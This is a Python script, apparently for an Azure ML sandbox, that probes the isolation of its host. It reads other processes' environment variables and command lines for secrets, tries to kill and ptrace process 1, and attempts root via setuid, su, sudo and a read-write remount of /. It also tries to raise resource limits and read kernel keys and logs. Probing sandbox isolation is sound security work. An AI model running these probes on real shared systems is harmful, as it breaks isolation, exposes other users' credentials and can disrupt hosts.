"""Looks around: what can be told of the host, of other runs and of the server. dataframe1: a column per masked path."""

import ctypes
import errno
import json
import os
import platform
import resource
import signal
import socket
import subprocess
from pathlib import Path

import pandas as pd


def attempt(action, *arguments):
    try:
        action(*arguments)
    except OSError as e:
        return errno.errorcode.get(e.errno, type(e).__name__)
    return "done"


def content(path):
    """What can be read there: entries of a directory, bytes of a file."""
    try:
        return len(os.listdir(path)) if os.path.isdir(path) else len(Path(path).read_bytes())
    except OSError as e:
        return errno.errorcode[e.errno] if e.errno != errno.ENOENT else 0


def texts():
    """All the text in which a secret, an address or a name of the host could stand."""
    places = ["/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/proc/self/mountinfo", "/proc/self/cgroup"]
    places += [f"/proc/{p}/{name}" for p in os.listdir("/proc") if p.isdigit() for name in ("environ", "cmdline")]
    places += [str(path) for path in Path("/in").iterdir()]
    found = {}
    for place in places:
        try:
            found[place] = Path(place).read_bytes().decode("latin-1")
        except OSError as e:
            found[place] = f"<{e.strerror}>"
    return found


def limits():
    names = ("RLIMIT_FSIZE", "RLIMIT_CORE", "RLIMIT_NOFILE", "RLIMIT_MEMLOCK", "RLIMIT_MSGQUEUE", "RLIMIT_NICE",
             "RLIMIT_RTPRIO")  # fmt: skip
    return {name: resource.getrlimit(getattr(resource, name)) for name in names}


def raised():
    """Each hard limit that could be raised."""
    lifted = []
    for name in ("RLIMIT_FSIZE", "RLIMIT_CORE", "RLIMIT_NOFILE", "RLIMIT_MEMLOCK", "RLIMIT_MSGQUEUE"):
        number = getattr(resource, name)
        hard = resource.getrlimit(number)[1]
        try:
            resource.setrlimit(number, (hard, hard + 1))
        except (ValueError, OSError):
            continue
        lifted.append(name)
    return lifted


def identity():
    return {"uid": os.getresuid(), "gid": os.getresgid(), "groups": os.getgroups(), "pid": os.getpid(),
            "cwd": os.getcwd()}  # fmt: skip


def first_process():
    """What can be done to process 1, when that is another than this."""
    if os.getpid() == 1:
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    traced = libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH
    return {
        "signal": attempt(os.kill, 1, signal.SIGKILL),
        "trace": "done" if traced == 0 else errno.errorcode[ctypes.get_errno()],
        "environ": attempt(Path("/proc/1/environ").read_bytes),
        "root": attempt(os.listdir, "/proc/1/root"),
        "fd": attempt(os.listdir, "/proc/1/fd"),
    }


def azureml_main(dataframe1, dataframe2):
    found = {
        "environment": sorted(os.environ),
        "environment at the process' start": sorted(
            entry.partition("=")[0] for entry in Path("/proc/self/environ").read_text().split("\0") if entry
        ),
        "process 1": first_process(),
        "masked": {path: content(path) for path in dataframe1.columns},
        "texts": texts(),
        "host name": [socket.gethostname(), platform.node(), subprocess.getoutput("hostname")],
        "processes": sorted(int(name) for name in os.listdir("/proc") if name.isdigit()),
        "signal to another": attempt(os.kill, 40, signal.SIGTERM),
        "identity": identity(),
        "become root": [attempt(os.setuid, 0), attempt(os.setgid, 0), attempt(os.setgroups, [0])],
        "become root by program": subprocess.getoutput("su -c id; sudo id; mount / -o remount,rw; id -u"),
        "limits": limits(),
        "raised": raised(),
        "higher priority": attempt(os.setpriority, os.PRIO_PROCESS, 0, -5),
        "real-time": attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1)),
        "descriptors": {fd: os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")
                        if os.path.lexists(f"/proc/self/fd/{fd}")},
        "standard input": os.read(0, 10).decode(),
        "kernel log": content("/dev/kmsg"),
        "cgroup": Path("/proc/self/cgroup").read_text(),
        "key rings": content("/proc/keys"),
        "shared memory": os.listdir("/dev/shm"),
        "working directory": sorted(os.path.join(top, name) for top, _, names in os.walk("/work") for name in names),
    }  # fmt: skip
    return pd.DataFrame({"probe": list(found), "finding": [json.dumps(value) for value in found.values()]})
